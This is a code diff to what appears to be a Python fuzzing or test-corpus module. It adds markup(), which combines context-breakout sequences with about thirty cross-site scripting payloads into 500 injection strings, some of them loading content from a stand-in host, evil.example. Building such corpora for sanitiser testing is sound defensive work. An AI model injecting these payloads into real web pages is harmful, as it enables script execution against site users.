@@ -69,3 +69,63 @@ def corpus() -> list[str]:
     made = [f"{before}{start}{command}" for before, start, command in product(_BEFORE, _STARTERS, _COMMANDS[:4])]
     made = made[::2] + [f"{start}{command}" for start, command in product(_STARTERS, _COMMANDS)]
     return list(dict.fromkeys([*_OTHERS, *made]))[:500]
+
+
+_OUT_OF = (
+    "",
+    '"',
+    "'",
+    '">',
+    "'>",
+    "</title>",
+    "</script>",
+    "</textarea>",
+    "-->",
+    "]]>",
+    "`",
+    "\\",
+    "&quot;>",
+    " x=",
+    "}}",
+    "</option></select>",
+)
+_PAYLOADS = (
+    "<script>hit()</script>",
+    "<img src=x onerror=hit()>",
+    "<svg onload=hit()>",
+    "<svg><script>hit()</script></svg>",
+    "<body onload=hit()>",
+    "<details open ontoggle=hit()>x</details>",
+    "<input autofocus onfocus=hit()>",
+    "<video><source onerror=hit()></video>",
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "<iframe src=javascript:parent.hit()></iframe>",
+    "<a href=javascript:hit()>x</a>",
+    "<form action=javascript:hit()><button>x</button></form>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<object data=//evil.example/></object>",
+    "<math><mi//xlink:href=data:,hit()>",
+    "<template><script>hit()</script></template>",
+    "<style>*{background:url(//evil.example/)}</style>",
+    " onmouseover=hit() x=",
+    " style=animation-name:x onanimationstart=hit() ",
+    "javascript:hit()//",
+    "data:text/html,<script>hit()</script>",
+    "{{constructor.constructor('hit()')()}}",
+    "${hit()}",
+    "{% print(hit()) %}",
+    "\u2028hit()//",
+    "&#60;script&#62;hit()&#60;/script&#62;",
+    "%3Cscript%3Ehit()%3C/script%3E",
+    "<scr<script>ipt>hit()</scr</script>ipt>",
+    "＜script＞hit()＜/script＞",
+    "<x onclick=hit()>",
+)  # fmt: skip
+
+
+def markup() -> list[str]:
+    """Return 500 strings that want to be a page's own: every way out of where they stand, with every act."""
+    made = [f"{out}{payload}" for payload in _PAYLOADS for out in _OUT_OF]
+    return list(dict.fromkeys(made))[:500]
